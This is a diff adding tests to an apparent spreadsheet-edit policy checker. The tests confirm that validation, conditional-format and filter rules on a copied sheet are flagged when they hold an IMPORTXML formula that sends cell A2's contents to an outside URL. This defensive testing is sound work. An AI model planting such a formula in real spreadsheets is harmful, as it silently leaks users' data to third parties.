@@ -145,6 +145,38 @@ def test_formulas_on_a_copied_sheet_are_judged_like_any(bench: Bench) -> None:
     assert (fact.kind, "IMPORTXML" in fact.sentence, "Копия" in fact.address) == ("function_policy", True, True)
 
 
+SENDS = '=IMPORTXML("https://example.com/?q="&A2,"//a")<>""'
+CONDITION = {"type": "CUSTOM_FORMULA", "values": [{"userEnteredValue": SENDS}]}
+AREA = {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 2, "startColumnIndex": 0, "endColumnIndex": 1}
+
+
+@pytest.mark.parametrize(
+    "rule",
+    [
+        {"setDataValidation": {"range": AREA, "rule": {"condition": CONDITION}}},
+        {"addConditionalFormatRule": {"rule": {"ranges": [AREA], "booleanRule": {"condition": CONDITION}}}},
+        {"setBasicFilter": {"filter": {"range": AREA, "criteria": {"0": {"condition": CONDITION}}}}},
+    ],
+    ids=["validation", "conditional format", "filter"],
+)
+def test_rules_on_a_copied_sheet_are_judged_like_any(bench: Bench, rule: dict[str, Any]) -> None:
+    copied = {"action": "duplicate_sheet", "source": "Данные", "target": "Копия"}
+    bench.client.batch_update(bench.id, [rule])
+    (fact,) = bench.attempt(copied).errors
+    assert (fact.kind, "IMPORTXML" in fact.sentence, "Копия" in fact.address) == ("function_policy", True, True)
+
+
+def test_harmless_rules_on_a_copied_sheet_may_stay(bench: Bench) -> None:
+    condition = {"type": "CUSTOM_FORMULA", "values": [{"userEnteredValue": "=$B1>-5"}]}
+    listed = {"type": "ONE_OF_LIST", "values": [{"userEnteredValue": text} for text in ("-5", "@home", "+1")]}
+    rule = {"ranges": [AREA], "booleanRule": {"condition": condition}}
+    validation = {"range": AREA, "rule": {"condition": listed}}
+    bench.client.batch_update(
+        bench.id, [{"addConditionalFormatRule": {"rule": rule}}, {"setDataValidation": validation}]
+    )
+    assert bench.attempt({"action": "duplicate_sheet", "source": "Данные", "target": "Копия"}).facts == ()
+
+
 TABLE = {"action": "write_table", "target": "'Данные'!E1", "values": [["Месяц", "План"], ["1", ""], ["2", "0"]]}
 
 
